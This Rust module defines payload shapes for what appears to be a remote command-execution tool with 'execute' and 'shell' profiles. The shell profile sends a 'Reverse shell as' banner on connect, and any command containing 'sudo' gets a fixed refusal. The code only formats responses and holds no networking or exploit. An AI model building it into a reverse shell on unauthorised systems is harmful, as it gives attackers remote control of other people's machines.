//! Payload shapes for the two responder profiles
//!
//! These byte shapes are the wire contract: peers have no framing to lean
//! on, so the exact headers, separators, and fixed strings below are what
//! the other side pattern-matches against.

/// Chunk size for shell-profile command reads. Longer commands span
/// multiple chunks and are reassembled by the receive primitive.
pub const COMMAND_CHUNK_SIZE: usize = 64;

/// Chunk size for initiator-side response reads.
pub const RESPONSE_CHUNK_SIZE: usize = 4096;

/// Header line opening every execute-profile response.
pub const EXECUTE_HEADER: &str = "<# Execute #>";

/// Fixed refusal sent when a shell command contains "sudo". Privilege
/// escalation commands never reach the executor.
pub const SUDO_REFUSAL: &str = "Sudo not supported";

/// Execute-profile response: header line, blank line, stdout, newline,
/// stderr. Sent once per connection, then the responder closes.
pub fn execute_response(stdout: &str, stderr: &str) -> String {
    format!("{}\n\n{}\n{}", EXECUTE_HEADER, stdout, stderr)
}

/// Execute-profile response when the command could not run at all: the
/// error text stands in for the output body after the fixed header.
pub fn execute_failure(message: &str) -> String {
    format!("{}\n\n{}", EXECUTE_HEADER, message)
}

/// Shell-profile banner, sent once on connect. The trailing space is part
/// of the contract; initiators render it as a prompt-like line.
pub fn shell_banner(identity: &str) -> String {
    format!("<# Reverse shell as {} #> ", identity)
}

/// Shell-profile response for one executed command.
pub fn shell_response(stdout: &str, stderr: &str) -> String {
    format!("{}\n{}", stdout, stderr)
}
